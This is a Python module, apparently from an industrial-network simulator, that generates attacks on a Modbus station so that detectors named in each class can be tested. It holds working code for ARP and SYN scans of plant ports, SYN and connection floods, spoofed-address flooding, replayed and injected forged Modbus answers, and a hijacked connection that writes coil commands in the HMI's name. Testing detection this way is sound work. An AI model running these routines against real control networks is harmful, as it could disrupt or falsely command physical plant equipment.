"""Attacks on the network below the protocols: new hosts, scans, floods, and frames with false senders."""

import asyncio
import struct
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import replace
from typing import ClassVar, Final

from simulator.attacks.attack import LONGEST_S, Attack, Field
from simulator.attacks.modbus import mbap
from simulator.attacks.packets import NOBODY, REQUEST, Segment, arp

PORTS: Final = (
    21,
    22,
    23,
    80,
    102,
    111,
    135,
    139,
    443,
    445,
    502,
    1089,
    2404,
    3389,
    4840,
    8080,
    20000,
    34964,
    44818,
    47808,
)
"""What a scanner of plants tries first."""
NEIGHBOURS: Final = 30
LEAST: Final = 9
"""Bytes of Modbus that say something: the header, a function, and one more."""
REPLAYS: Final = 6
"""Forged answers: three are told, and some come while a true one is on its way."""
FROM: Final = 40_000
"""First port of forged connections."""


class Station(Attack):
    """An attack on whoever is at the address of the station."""

    WAY = "modbus"

    async def place(self, on: Field) -> tuple[str, int, bytes]:
        """Return address, port and hardware address of the station."""
        ip, port = on.targets[self.WAY]
        return ip, port, on.macs[ip]


class NewHost(Attack):
    """Plugs a computer into the switch: it asks who else is there, and says nothing more."""

    NAME = "new_host"
    CHECKS = ("new_talker",)

    async def run(self, on: Field) -> None:
        """Ask for a few addresses."""
        for ip in (on.me, on.hmi):
            on.on_wire.send(arp(REQUEST, mac=on.on_wire.mac, ip=on.me, to_ip=ip))


class NewPair(Station):
    """Connects to a device that it never talked to, and hangs up."""

    NAME = "new_connection"
    CHECKS = ("new_pair", "new_talker")

    async def run(self, on: Field) -> None:
        """Connect."""
        _, writer = await on.connect(self.WAY)
        writer.close()


class ArpScan(Attack):
    """Asks for every address of the network, one after the other."""

    NAME = "arp_scan"
    CHECKS = ("scan",)

    async def run(self, on: Field) -> None:
        """Ask by ARP."""
        network = on.me.rpartition(".")[0]
        for number in range(1, NEIGHBOURS + 1):
            on.on_wire.send(arp(REQUEST, mac=on.on_wire.mac, ip=on.me, to_mac=NOBODY, to_ip=f"{network}.{number}"))
            await asyncio.sleep(0.05)


class SynScan(Station):
    """Tries the ports of a device without ever completing a connection."""

    NAME = "syn_scan"
    CHECKS = ("scan",)

    async def run(self, on: Field) -> None:
        """Open, and leave it."""
        ip, _, mac = await self.place(on)
        for number, port in enumerate(PORTS):
            on.on_wire.send(Segment(on.on_wire.mac, mac, on.me, ip, FROM + number, port, sequence=number).frame())
            await asyncio.sleep(0.05)


class SynFlood(Station):
    """Opens connections and never completes them, faster than a device forgets them."""

    NAME = "syn_flood"
    CHECKS = ("flood",)
    PER_S: ClassVar[int] = 400
    FOR_S: ClassVar[float] = 8.0

    async def run(self, on: Field) -> None:
        """Send the openings."""
        ip, port, mac = await self.place(on)
        for number in range(int(self.FOR_S * 20)):
            for each in range(self.PER_S // 20):
                source = FROM + (number * 20 + each) % 20_000
                on.on_wire.send(Segment(on.on_wire.mac, mac, on.me, ip, source, port, sequence=number).frame())
            await asyncio.sleep(0.05)


class SpoofedAddresses(Station):
    """Sends from hundreds of addresses that nobody has, to fill the tables of switches and of who looks on."""

    NAME = "spoofed_addresses"
    CHECKS = ("new_talker",)
    COUNT: ClassVar[int] = 400

    async def run(self, on: Field) -> None:
        """Open a connection from each."""
        ip, port, mac = await self.place(on)
        for number in range(self.COUNT):
            source = b"\x02\xba\xd1" + number.to_bytes(3, "big")
            me = f"10.{200 + number % 16}.{number // 16 % 256}.7"
            on.on_wire.send(Segment(source, mac, me, ip, FROM, port).frame())
            if not number % 20:
                await asyncio.sleep(0.05)


class ConnectionFlood(Station):
    """Takes all the connections that a device has, so that its master gets none."""

    NAME = "connection_flood"
    CHECKS = ("flood",)
    FOR_S: ClassVar[float] = 8.0
    AT_ONCE: ClassVar[int] = 8

    async def run(self, on: Field) -> None:
        """Open and close, as fast as it goes."""
        with suppress(TimeoutError):
            async with asyncio.timeout(self.FOR_S), asyncio.TaskGroup() as group:
                for _ in range(self.AT_ONCE):
                    group.create_task(self._again(on))

    async def _again(self, on: Field) -> None:
        while True:
            with suppress(OSError):
                _, writer = await on.connect(self.WAY)
                writer.transport.abort()
            await asyncio.sleep(0.02)


class ForgedAnswers(Station):
    """Overhears a conversation, and says `forged` answers in the name of the station."""

    async def run(self, on: Field) -> None:
        """Wait for an answer to the HMI, and follow it with answers that nobody asked for."""
        answer = await self._overheard(on)
        for data in self.forged(answer.data):
            answer = answer.saying(data)
            on.on_wire.send(answer.frame())
            await asyncio.sleep(0.01)

    def forged(self, answer: bytes) -> Iterator[bytes]:
        """Yield what is said after a true answer."""
        raise NotImplementedError

    async def _overheard(self, on: Field) -> Segment:
        ip, port, _ = await self.place(on)
        return await overheard(on, lambda heard: (heard.ip, heard.port, heard.to_ip) == (ip, port, on.hmi))


class ReplayedAnswers(ForgedAnswers):
    """Records an answer of a station to its master, and sends it again and again."""

    NAME = "replayed_answers"
    CHECKS = ("orphan_response",)
    WHOM = 1

    def forged(self, answer: bytes) -> Iterator[bytes]:
        """Yield the very same."""
        yield from [answer] * REPLAYS


class InjectedAnswers(ForgedAnswers):
    """Answers in the name of a station before it is asked, with values that are not true."""

    NAME = "injected_answers"
    CHECKS = ("orphan_response",)

    def forged(self, answer: bytes) -> Iterator[bytes]:
        """Yield answers with numbers that were not asked yet, and zeros for values."""
        number = int.from_bytes(answer[:2], "big")
        for ahead in range(1, REPLAYS + 1):
            yield struct.pack(">H", (number + 1000 + ahead) & 0xFFFF) + answer[2:9] + bytes(len(answer) - 9)


class HijackedConnection(Station):
    """Writes to a device in the middle of its master's connection, with the addresses of that master."""

    NAME = "hijacked_connection"
    CHECKS = ("stack_change",)
    HOPS: ClassVar[int] = 128
    """What his system begins its packets with: another one than the HMI's."""

    async def run(self, on: Field) -> None:
        """Wait for an answer to the HMI, and say in its name what it would say next: a command."""
        ip, port, _ = await self.place(on)
        answer = await overheard(on, lambda heard: (heard.ip, heard.port, heard.to_ip) == (ip, port, on.hmi))
        asked = answer.turned()
        for number in range(2):
            asked = replace(asked.saying(mbap(struct.pack(">BHH", 5, number, 0xFF00))), hops=self.HOPS)
            on.on_wire.send(asked.frame())
            await asyncio.sleep(0.01)


ATTACKS: Final[tuple[type[Attack], ...]] = (
    ArpScan,
    ConnectionFlood,
    HijackedConnection,
    InjectedAnswers,
    NewHost,
    NewPair,
    ReplayedAnswers,
    SpoofedAddresses,
    SynFlood,
    SynScan,
)


async def overheard(on: Field, wanted: Callable[[Segment], bool]) -> Segment:
    """Return the next segment on the wire that is wanted, and that says something."""
    async with asyncio.timeout(LONGEST_S):
        while True:
            heard = Segment.of(await on.on_wire.hear())
            if heard and len(heard.data) > LEAST and wanted(heard):
                return heard
